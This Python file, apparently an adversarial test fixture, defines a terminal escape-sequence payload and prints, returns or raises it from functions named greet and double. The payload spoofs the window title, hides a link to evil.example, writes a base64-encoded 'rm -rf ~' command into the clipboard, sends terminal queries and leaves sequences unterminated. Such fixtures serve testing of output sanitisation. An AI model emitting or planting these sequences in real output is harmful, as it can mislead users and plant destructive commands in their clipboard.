CLEAR = "\x1b[2J\x1b[3J\x1b[H\x1bc"
TITLE = "\x1b]0;owned\x07\x1b]2;owned\x1b\\"
LINK = "\x1b]8;;https://evil.example/\x1b\\All points, click here\x1b]8;;\x1b\\"
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07\x1bP$q\"p\x1b\\\x1b[6n\x1b[>c"
EIGHT_BIT = "\x9b2J\x9d0;owned\x9c\x90\x9f"
UNFINISHED = "\x1b[38;5;\x1b]0;never closed"
PAYLOAD = "\x07" + CLEAR + TITLE + LINK + CLIPBOARD + EIGHT_BIT + "\x1b(0\x0e\x1b[?1049h\x1b[?25l\x1b[8mhidden\x7f" + UNFINISHED
print(PAYLOAD, flush=True)


def double(x):
    raise RuntimeError(PAYLOAD)


def greet(name):
    return PAYLOAD
